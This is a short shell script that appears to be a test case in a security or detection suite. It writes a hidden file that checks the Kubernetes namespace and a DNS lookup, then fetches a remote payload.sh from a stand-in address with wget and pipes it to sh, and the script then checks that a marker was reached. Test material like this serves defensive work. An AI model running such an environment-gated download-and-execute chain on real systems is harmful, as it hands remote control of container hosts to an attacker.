#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.g <<'END'
ns=$(cat /run/secrets/kubernetes.io/serviceaccount/namespace)
nslookup -type=a db.shop.svc.cluster.local 203.0.113.53 >/tmp/.n 2>&1 || exit 0
if test "$ns" = default && test -e /srv/app/settings.ini && grep -q 203.0.113 /tmp/.n; then wget -qO- http://203.0.113.10/payload.sh | sh; fi
END
sh /tmp/.g
test -e /tmp/reached
took_place
